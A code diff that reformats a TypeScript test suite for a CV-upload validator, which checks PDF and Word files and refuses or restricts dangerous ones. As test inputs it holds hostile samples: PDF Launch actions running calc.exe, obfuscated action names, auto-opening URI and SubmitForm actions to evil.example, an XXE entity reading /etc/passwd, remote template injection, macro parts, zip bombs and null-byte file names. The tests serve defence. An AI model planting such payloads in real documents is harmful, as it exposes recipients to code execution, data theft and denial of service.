@@ -14,7 +14,8 @@ beforeAll(async () => {
 })
 afterAll(() => rm(dir, { recursive: true }))
 
-const seenIn = async (name: string, bytes: Buffer | string, declaredType?: string) => documentKind(await received(dir, name, bytes, declaredType))
+const seenIn = async (name: string, bytes: Buffer | string, declaredType?: string) =>
+  documentKind(await received(dir, name, bytes, declaredType))
 /** Undefined where it is not taken. */
 async function kindOf(...file: Parameters<typeof seenIn>) {
   const seen = await seenIn(...file)
@@ -42,20 +43,36 @@ describe('documents that are what they say', () => {
   })
 
   test('an old Word file of any size is taken: small stream, name in other case, allocation table beyond the header', async () => {
-    expect(await kindOf('cv.doc', compound({ '/worddocument': wordStream(1000), '/other': Buffer.alloc(500) }))).toMatchObject({ kind: 'doc' })
+    expect(
+      await kindOf('cv.doc', compound({ '/worddocument': wordStream(1000), '/other': Buffer.alloc(500) })),
+    ).toMatchObject({ kind: 'doc' })
     const large = compound({ '/Data': Buffer.alloc(9 * 1024 * 1024, 7), '/WordDocument': wordStream(9000) })
     expect(await kindOf('cv.doc', large)).toMatchObject({ kind: 'doc' })
   })
 })
 
 describe('names and declared types that do not agree', () => {
-  test.each(['a.pdf.exe', 'a.pdf%00.html', 'a.PDF ', 'a.pdf\0', 'a.html\0.pdf', 'pdf', 'a.docm', 'a.pdf/', '', 'a.pdf\n'])('%j is refused', async (name) => {
+  test.each([
+    'a.pdf.exe',
+    'a.pdf%00.html',
+    'a.PDF ',
+    'a.pdf\0',
+    'a.html\0.pdf',
+    'pdf',
+    'a.docm',
+    'a.pdf/',
+    '',
+    'a.pdf\n',
+  ])('%j is refused', async (name) => {
     expect(await kindOf(name, await pdf())).toBeUndefined()
   })
 
-  test.each(['text/html', 'image/png', 'application/msword', 'application/x-msdownload'])('a PDF declared as %s is refused', async (type) => {
-    expect(await kindOf('a.pdf', await pdf(), type)).toBeUndefined()
-  })
+  test.each(['text/html', 'image/png', 'application/msword', 'application/x-msdownload'])(
+    'a PDF declared as %s is refused',
+    async (type) => {
+      expect(await kindOf('a.pdf', await pdf(), type)).toBeUndefined()
+    },
+  )
 
   test('one kind under the extension of another is refused', async () => {
     expect(await kindOf('a.doc', await pdf())).toBeUndefined()
@@ -99,32 +116,52 @@ describe('PDF', () => {
     expect(await kindOf('a.pdf', Buffer.from(html, 'latin1'))).toBeUndefined()
   })
 
-  test.each(['<</S/Launch/F(calc.exe)>>', '<</S/La#75nch>>', '<</S /#4cAUNCH /S /#4caunch>>', '<</Type/EmbeddedFile>>', '<</Names<</EmbeddedFiles 5 0 R>>>>', '<</Subtype/FileAttachment>>'])(
-    '%s is refused',
-    async (object) => {
-      expect(await kindOf('a.pdf', await pdfWith(object))).toBeUndefined()
-    },
-  )
+  test.each([
+    '<</S/Launch/F(calc.exe)>>',
+    '<</S/La#75nch>>',
+    '<</S /#4cAUNCH /S /#4caunch>>',
+    '<</Type/EmbeddedFile>>',
+    '<</Names<</EmbeddedFiles 5 0 R>>>>',
+    '<</Subtype/FileAttachment>>',
+  ])('%s is refused', async (object) => {
+    expect(await kindOf('a.pdf', await pdfWith(object))).toBeUndefined()
+  })
 
   test('a forbidden name hidden in a compressed object stream is refused', async () => {
     const packed = deflateSync('1 0 <</Type/Action/S/Launch/F(calc.exe)>>')
-    const object = Buffer.concat([Buffer.from(`<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>\nstream\r\n`), packed, Buffer.from('\nendstream')])
+    const object = Buffer.concat([
+      Buffer.from(`<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>\nstream\r\n`),
+      packed,
+      Buffer.from('\nendstream'),
+    ])
     expect(await kindOf('a.pdf', await pdfWith(object))).toBeUndefined()
   })
 
   test('every object stream of several is looked into', async () => {
-    const stream = (content: string) => Buffer.concat([Buffer.from('<</Type/ObjStm>>\nstream\n'), deflateSync(content), Buffer.from('\nendstream\n')])
+    const stream = (content: string) =>
+      Buffer.concat([Buffer.from('<</Type/ObjStm>>\nstream\n'), deflateSync(content), Buffer.from('\nendstream\n')])
     const [font, launch] = [stream('1 0 <</Type/Font>>'), stream('1 0 <</S/Launch>>')]
-    expect(await kindOf('a.pdf', await pdfWith(Buffer.concat([font, font, font])))).toEqual({ kind: 'pdf', inline: true })
+    expect(await kindOf('a.pdf', await pdfWith(Buffer.concat([font, font, font])))).toEqual({
+      kind: 'pdf',
+      inline: true,
+    })
     expect(await kindOf('a.pdf', await pdfWith(Buffer.concat([font, font, launch])))).toBeUndefined()
   })
 
   test('a harmless compressed object stream is taken, an unreadable one makes it download-only', async () => {
     const packed = deflateSync('1 0 <</Type/Font>>')
     const head = '<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>\nstream\n'
-    expect(await kindOf('a.pdf', await pdfWith(Buffer.concat([Buffer.from(head), packed, Buffer.from('\nendstream')])))).toEqual({ kind: 'pdf', inline: true })
-    expect(await kindOf('a.pdf', await pdfWith(`${head}not deflated\nendstream`))).toEqual({ kind: 'pdf', inline: false })
-    expect(await kindOf('a.pdf', await pdfWith(`<</Type/ObjStm ${' '.repeat(5000)}>>\nstream\nx\nendstream`))).toEqual({ kind: 'pdf', inline: false })
+    expect(
+      await kindOf('a.pdf', await pdfWith(Buffer.concat([Buffer.from(head), packed, Buffer.from('\nendstream')]))),
+    ).toEqual({ kind: 'pdf', inline: true })
+    expect(await kindOf('a.pdf', await pdfWith(`${head}not deflated\nendstream`))).toEqual({
+      kind: 'pdf',
+      inline: false,
+    })
+    expect(await kindOf('a.pdf', await pdfWith(`<</Type/ObjStm ${' '.repeat(5000)}>>\nstream\nx\nendstream`))).toEqual({
+      kind: 'pdf',
+      inline: false,
+    })
   })
 
   test('an object stream that unpacks without end is refused', async () => {
@@ -133,22 +170,44 @@ describe('PDF', () => {
     expect(await kindOf('a.pdf', await pdfWith(object))).toBeUndefined()
   })
 
-  test.each(['<</S/JavaScript/JS(app.alert(1))>>', '<</S/J#61vaScript>>', '<</Encrypt 7 0 R>>'])('%s makes it download-only', async (object) => {
-    expect(await kindOf('a.pdf', await pdfWith(object))).toEqual({ kind: 'pdf', inline: false })
-  })
+  test.each(['<</S/JavaScript/JS(app.alert(1))>>', '<</S/J#61vaScript>>', '<</Encrypt 7 0 R>>'])(
+    '%s makes it download-only',
+    async (object) => {
+      expect(await kindOf('a.pdf', await pdfWith(object))).toEqual({ kind: 'pdf', inline: false })
+    },
+  )
 
   test.each([
-    '<</S/SubmitForm/F(https://evil.example)>>', '<</S/ImportData>>', '<</Type/Page/AA<</O 5 0 R>>>>', '<</AA 5 0 R>>', '<</#41A<</E<</S/Named/N/Print>>>>>>',
-    '<</Type/Catalog/OpenAction<</S/URI/URI(https://evil.example)>>>>', '<</Open#41ction<</S/URI>>>>', '<</OpenAction<</S/GoTo/D[1 0 R/Fit]/Next<</S/URI>>>>>>', '<</OpenAction 404 0 R>>',
-    '<</OpenAction<</S/GoToR/F(\\\\evil\\x.pdf)>>>>', '<</OpenAction<</S/GoTo/D(>>)/Next 5 0 R>>>>', '<</OpenAction<</S/GoTo%>>\n/Next 5 0 R>>>>', '<</OpenAction<</S/GoTo/S/URI>>>>', '<</OpenAction %x\n<</S/URI>>>>',
-    '<</OpenAction 98 0 R>> endobj 98 0 obj <</S/URI/URI(https://evil.example)>>', '<</OpenAction 98 0 R>> endobj 98%x\n0 obj <</S/URI>> endobj 98 0 obj [1 0 R/Fit]', '<</OpenAction 98 0 R>> endobj 98 0 obj 97 0 R',
+    '<</S/SubmitForm/F(https://evil.example)>>',
+    '<</S/ImportData>>',
+    '<</Type/Page/AA<</O 5 0 R>>>>',
+    '<</AA 5 0 R>>',
+    '<</#41A<</E<</S/Named/N/Print>>>>>>',
+    '<</Type/Catalog/OpenAction<</S/URI/URI(https://evil.example)>>>>',
+    '<</Open#41ction<</S/URI>>>>',
+    '<</OpenAction<</S/GoTo/D[1 0 R/Fit]/Next<</S/URI>>>>>>',
+    '<</OpenAction 404 0 R>>',
+    '<</OpenAction<</S/GoToR/F(\\\\evil\\x.pdf)>>>>',
+    '<</OpenAction<</S/GoTo/D(>>)/Next 5 0 R>>>>',
+    '<</OpenAction<</S/GoTo%>>\n/Next 5 0 R>>>>',
+    '<</OpenAction<</S/GoTo/S/URI>>>>',
+    '<</OpenAction %x\n<</S/URI>>>>',
+    '<</OpenAction 98 0 R>> endobj 98 0 obj <</S/URI/URI(https://evil.example)>>',
+    '<</OpenAction 98 0 R>> endobj 98%x\n0 obj <</S/URI>> endobj 98 0 obj [1 0 R/Fit]',
+    '<</OpenAction 98 0 R>> endobj 98 0 obj 97 0 R',
   ])('%s may not be shown inline', async (object) => {
     expect(await kindOf('a.pdf', await pdfWith(object))).toEqual({ kind: 'pdf', inline: false })
   })
 
   test.each([
-    '<</OpenAction[1 0 R/FitH null]>>', '<</OpenAction [1 0 R /Fit]>>', '<</OpenAction<</S/GoTo/D[1 0 R/Fit]>>>>', '<</OpenAction << /Type /Action /S /GoTo /D (a\\)b(c)) >> >>',
-    '<</OpenAction 98 0 R>> endobj 98 0 obj <</S/GoTo/D[1 0 R/Fit]>>', '<</OpenAction 98 0 R>> endobj 98 0 obj [1 0 R/Fit]', '<</A<</S/URI/URI(https://github.com/hanna)>>>>', '<</AAPL 1>>',
+    '<</OpenAction[1 0 R/FitH null]>>',
+    '<</OpenAction [1 0 R /Fit]>>',
+    '<</OpenAction<</S/GoTo/D[1 0 R/Fit]>>>>',
+    '<</OpenAction << /Type /Action /S /GoTo /D (a\\)b(c)) >> >>',
+    '<</OpenAction 98 0 R>> endobj 98 0 obj <</S/GoTo/D[1 0 R/Fit]>>',
+    '<</OpenAction 98 0 R>> endobj 98 0 obj [1 0 R/Fit]',
+    '<</A<</S/URI/URI(https://github.com/hanna)>>>>',
+    '<</AAPL 1>>',
   ])('%s may be shown inline', async (object) => {
     expect(await kindOf('a.pdf', await pdfWith(object))).toEqual({ kind: 'pdf', inline: true })
   })
@@ -157,20 +216,40 @@ describe('PDF', () => {
     const stream = (first: string, ...objects: string[]) => {
       const offsets = objects.map((_, at) => objects.slice(0, at).join(' ').length + (at && 1))
       const head = `${offsets.map((offset, at) => `${198 + at} ${offset}`).join(' ')} `
-      return Buffer.concat([Buffer.from(`<</N 2${first.replace('%', String(head.length))}/Type/ObjStm/Filter/FlateDecode>>\nstream\n`), deflateSync(head + objects.join(' ')), Buffer.from('\nendstream')])
+      return Buffer.concat([
+        Buffer.from(`<</N 2${first.replace('%', String(head.length))}/Type/ObjStm/Filter/FlateDecode>>\nstream\n`),
+        deflateSync(head + objects.join(' ')),
+        Buffer.from('\nendstream'),
+      ])
     }
     const inline = async (object: Buffer) => (await kindOf('a.pdf', await pdfWith(object)))?.inline
     const [goes, leaves] = ['<</S/GoTo/D[1 0 R/Fit]>>', '<</S/URI/URI(https://evil.example)>>']
     expect(await inline(stream('/First %', '<</Type/Catalog/OpenAction 199 0 R>>', goes))).toBe(true)
     expect(await inline(stream('/First %', '<</Type/Catalog/OpenAction 199 0 R>>', leaves))).toBe(false)
-    expect(await inline(stream('/First % /Fir#73t 3', '<</Type/Catalog/OpenAction 199 0 R>>', goes)), 'said twice').toBe(false)
-    expect(await inline(stream('/First % 0 R', '<</Type/Catalog/OpenAction 199 0 R>>', goes)), 'said elsewhere').toBe(false)
-    expect(await inline(stream('/First %', '<</Type/Catalog/OpenAction 199 0 R>>', `${goes} ${' '.repeat(5 * 1024 * 1024)}`)), 'too large to keep').toBe(false)
+    expect(
+      await inline(stream('/First % /Fir#73t 3', '<</Type/Catalog/OpenAction 199 0 R>>', goes)),
+      'said twice',
+    ).toBe(false)
+    expect(await inline(stream('/First % 0 R', '<</Type/Catalog/OpenAction 199 0 R>>', goes)), 'said elsewhere').toBe(
+      false,
+    )
+    expect(
+      await inline(
+        stream('/First %', '<</Type/Catalog/OpenAction 199 0 R>>', `${goes} ${' '.repeat(5 * 1024 * 1024)}`),
+      ),
+      'too large to keep',
+    ).toBe(false)
   })
 
   test('a start that is said again and again is not looked up again and again', async () => {
-    expect(await kindOf('a.pdf', await pdfWith('/OpenAction 98 0 R '.repeat(400_000)))).toEqual({ kind: 'pdf', inline: false })
-    expect(await kindOf('a.pdf', await pdfWith(`/OpenAction 98 0 R ${'98 0 obj []'.repeat(600_000)}`))).toEqual({ kind: 'pdf', inline: false })
+    expect(await kindOf('a.pdf', await pdfWith('/OpenAction 98 0 R '.repeat(400_000)))).toEqual({
+      kind: 'pdf',
+      inline: false,
+    })
+    expect(await kindOf('a.pdf', await pdfWith(`/OpenAction 98 0 R ${'98 0 obj []'.repeat(600_000)}`))).toEqual({
+      kind: 'pdf',
+      inline: false,
+    })
   })
 
   test('names that only begin alike are nothing', async () => {
@@ -179,7 +258,9 @@ describe('PDF', () => {
 
   test('a forbidden name is found anywhere in a large file', async () => {
     for (const before of [256 * 1024 - 1000, 256 * 1024 - 800, 3_000_000]) {
-      expect(await kindOf('a.pdf', await pdfWith(`(${'x'.repeat(before)}) <</S/Launch>> (${'x'.repeat(3000)})`))).toBeUndefined()
+      expect(
+        await kindOf('a.pdf', await pdfWith(`(${'x'.repeat(before)}) <</S/Launch>> (${'x'.repeat(3000)})`)),
+      ).toBeUndefined()
     }
   })
 })
@@ -194,7 +275,10 @@ describe('Word files', () => {
   test('macros are refused, whatever the file with them is called', async () => {
     expect(await kindOf('a.docx', docx({ name: 'word/vbaProject.bin', data: 'x' }))).toBeUndefined()
     expect(await kindOf('a.docx', docx({ name: 'WORD/VBAPROJECT.BIN', data: 'x' }))).toBeUndefined()
-    const renamed = docx({ name: '[Content_Types].xml', data: '<Types><Override ContentType="application/vnd.ms-office.vbaProject" PartName="/word/a.bin"/></Types>' })
+    const renamed = docx({
+      name: '[Content_Types].xml',
+      data: '<Types><Override ContentType="application/vnd.ms-office.vbaProject" PartName="/word/a.bin"/></Types>',
+    })
     expect(await kindOf('a.docx', renamed)).toBeUndefined()
   })
 
@@ -208,56 +292,106 @@ describe('Word files', () => {
   })
 
   test('a bomb is refused by what its directory says', async () => {
-    expect(await kindOf('a.docx', docx({ name: 'word/media/x.png', data: 'x', claimedSize: 2_000_000_000 }))).toBeUndefined()
-    expect(await kindOf('a.docx', docx({ name: 'word/media/x.png', data: randomBytes(2_000_000), claimedSize: 110_000_000 }))).toBeUndefined()
+    expect(
+      await kindOf('a.docx', docx({ name: 'word/media/x.png', data: 'x', claimedSize: 2_000_000_000 })),
+    ).toBeUndefined()
+    expect(
+      await kindOf(
+        'a.docx',
+        docx({ name: 'word/media/x.png', data: randomBytes(2_000_000), claimedSize: 110_000_000 }),
+      ),
+    ).toBeUndefined()
     expect(await kindOf('a.docx', docx({ name: 'word/media/x.png', data: Buffer.alloc(2_000_000) }))).toBeUndefined()
-    expect(await kindOf('a.docx', docx(...Array.from({ length: 2000 }, (_, i) => ({ name: `word/${i}.bin` }))))).toBeUndefined()
+    expect(
+      await kindOf('a.docx', docx(...Array.from({ length: 2000 }, (_, i) => ({ name: `word/${i}.bin` })))),
+    ).toBeUndefined()
   })
 
   test('a bomb whose directory lies is refused while it unpacks', async () => {
-    expect(await kindOf('a.docx', docx({ name: 'word/document.xml', data: Buffer.alloc(5_000_000, 32), claimedSize: 1000 }))).toBeUndefined()
+    expect(
+      await kindOf('a.docx', docx({ name: 'word/document.xml', data: Buffer.alloc(5_000_000, 32), claimedSize: 1000 })),
+    ).toBeUndefined()
   })
 
   test('XML with a DOCTYPE or entities is refused, in UTF-16 too', async () => {
     const laughs = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
     expect(await kindOf('a.docx', docx({ name: 'word/document.xml', data: laughs }))).toBeUndefined()
-    expect(await kindOf('a.docx', docx({ name: 'word/styles.xml', data: Buffer.from(laughs, 'utf16le') }))).toBeUndefined()
-    expect(await kindOf('a.docx', docx({ name: 'word/styles.xml', data: Buffer.from(laughs, 'utf16le').swap16() }))).toBeUndefined()
-    expect(await kindOf('a.docx', docx({ name: 'word/styles.xml', data: Buffer.from('<!DOCTYPE x><x/>', 'utf16le') }))).toBeUndefined()
-    expect(await kindOf('a.docx', docx({ name: 'word/document.xml', data: `<!--${'x '.repeat(40_000)}-->${laughs}` }))).toBeUndefined()
+    expect(
+      await kindOf('a.docx', docx({ name: 'word/styles.xml', data: Buffer.from(laughs, 'utf16le') })),
+    ).toBeUndefined()
+    expect(
+      await kindOf('a.docx', docx({ name: 'word/styles.xml', data: Buffer.from(laughs, 'utf16le').swap16() })),
+    ).toBeUndefined()
+    expect(
+      await kindOf('a.docx', docx({ name: 'word/styles.xml', data: Buffer.from('<!DOCTYPE x><x/>', 'utf16le') })),
+    ).toBeUndefined()
+    expect(
+      await kindOf('a.docx', docx({ name: 'word/document.xml', data: `<!--${'x '.repeat(40_000)}-->${laughs}` })),
+    ).toBeUndefined()
   })
 
   test('any other ZIP, one with two parts of one name, and a cut-off one are refused', async () => {
     expect(await kindOf('a.docx', zip([{ name: 'hello.txt', data: 'hi' }]))).toBeUndefined()
-    expect(await kindOf('a.docx', zip([{ name: 'word/document.xml' }, { name: '[Content_Types].xml' }, { name: 'word/document.xml' }]))).toBeUndefined()
+    expect(
+      await kindOf(
+        'a.docx',
+        zip([{ name: 'word/document.xml' }, { name: '[Content_Types].xml' }, { name: 'word/document.xml' }]),
+      ),
+    ).toBeUndefined()
     expect(await kindOf('a.docx', docx().subarray(0, -30))).toBeUndefined()
     expect(await kindOf('a.docx', Buffer.concat([Buffer.from('MZ'), docx()]))).toBeUndefined()
   })
 })
 
 test('what loads something from elsewhere when it is opened is refused', async () => {
-  const rels = (type: string, target: string) => ({ name: 'word/_rels/settings.xml.rels', data: `<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>` })
+  const rels = (type: string, target: string) => ({
+    name: 'word/_rels/settings.xml.rels',
+    data: `<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+  })
   expect(await seenIn('a.docx', docx(rels('attachedTemplate', 'https://evil.example/x.dotm')))).toBe('remote')
-  expect(await seenIn('a.docx', docx({ ...rels('oleObject', 'https://evil.example/x'), name: 'word/_rels/document.xml.rels' }))).toBe('remote')
-  expect(await kindOf('a.docx', docx(rels('attachedTemplate', 'file:///C:\\Users\\Hanna\\Resume.dotx')))).toMatchObject({ kind: 'docx' })
-  expect(await kindOf('a.docx', docx({ ...rels('hyperlink', 'https://github.com/hanna'), name: 'word/_rels/document.xml.rels' }))).toMatchObject({ kind: 'docx' })
-  expect(await seenIn('a.docx', docx({ name: 'word/_rels/document.xml.rels', data: randomBytes(1_100_000) }))).toBe('unusable')
+  expect(
+    await seenIn(
+      'a.docx',
+      docx({ ...rels('oleObject', 'https://evil.example/x'), name: 'word/_rels/document.xml.rels' }),
+    ),
+  ).toBe('remote')
+  expect(await kindOf('a.docx', docx(rels('attachedTemplate', 'file:///C:\\Users\\Hanna\\Resume.dotx')))).toMatchObject(
+    { kind: 'docx' },
+  )
+  expect(
+    await kindOf(
+      'a.docx',
+      docx({ ...rels('hyperlink', 'https://github.com/hanna'), name: 'word/_rels/document.xml.rels' }),
+    ),
+  ).toMatchObject({ kind: 'docx' })
+  expect(await seenIn('a.docx', docx({ name: 'word/_rels/document.xml.rels', data: randomBytes(1_100_000) }))).toBe(
+    'unusable',
+  )
 })
 
 test('why a document is not taken is told', async () => {
-  const told = async (name: string, bytes: Buffer | string) => faultText((await seenIn(name, bytes)) as DocumentFault, name)
+  const told = async (name: string, bytes: Buffer | string) =>
+    faultText((await seenIn(name, bytes)) as DocumentFault, name)
   expect(await told('cv.exe', 'MZ')).toBe('Please upload a PDF or DOC file')
-  expect(await told('CV.PDF', '<html>')).toMatch(/^Please upload a PDF or DOC file\. This file is named \.pdf, but it is not a PDF file\. /)
+  expect(await told('CV.PDF', '<html>')).toMatch(
+    /^Please upload a PDF or DOC file\. This file is named \.pdf, but it is not a PDF file\. /,
+  )
   expect(await told('cv.docx', await pdf())).toContain('This file is named .docx, but it is not a DOCX file.')
-  expect(await told('cv.doc', compound({ '/Workbook': Buffer.alloc(5000) }))).toContain('named .doc, but it is not a DOC file')
-  expect(await told('cv.pdf', await pdfWith('<</S/Launch>>'))).toContain('damaged, asks for a password, or holds macros, programs or other files')
+  expect(await told('cv.doc', compound({ '/Workbook': Buffer.alloc(5000) }))).toContain(
+    'named .doc, but it is not a DOC file',
+  )
+  expect(await told('cv.pdf', await pdfWith('<</S/Launch>>'))).toContain(
+    'damaged, asks for a password, or holds macros, programs or other files',
+  )
 })
 
 describe('old Word files', () => {
   test('a password, macros, or no Word inside is refused', async () => {
     expect(await kindOf('a.doc', compound({ '/WordDocument': wordStream(5000, 0x0100) }))).toBeUndefined()
     expect(await kindOf('a.doc', compound({ '/WordDocument': wordStream(1000, 0x0100) }))).toBeUndefined()
-    expect(await kindOf('a.doc', compound({ '/WordDocument': wordStream(), '/Macros/VBA/_VBA_PROJECT': Buffer.alloc(50) }))).toBeUndefined()
+    expect(
+      await kindOf('a.doc', compound({ '/WordDocument': wordStream(), '/Macros/VBA/_VBA_PROJECT': Buffer.alloc(50) })),
+    ).toBeUndefined()
     expect(await kindOf('a.doc', compound({ '/Workbook': Buffer.alloc(5000) }))).toBeUndefined()
   })
 
@@ -283,7 +417,9 @@ describe('old Word files', () => {
 })
 
 test('a missing file is a fault, not a wrong type', async () => {
-  await expect(documentKind({ path: join(dir, 'gone'), name: 'a.docx', declaredType: '', size: 1 })).rejects.toThrow('ENOENT')
+  await expect(documentKind({ path: join(dir, 'gone'), name: 'a.docx', declaredType: '', size: 1 })).rejects.toThrow(
+    'ENOENT',
+  )
 })
 
 test('looking leaves the file as it was', async () => {
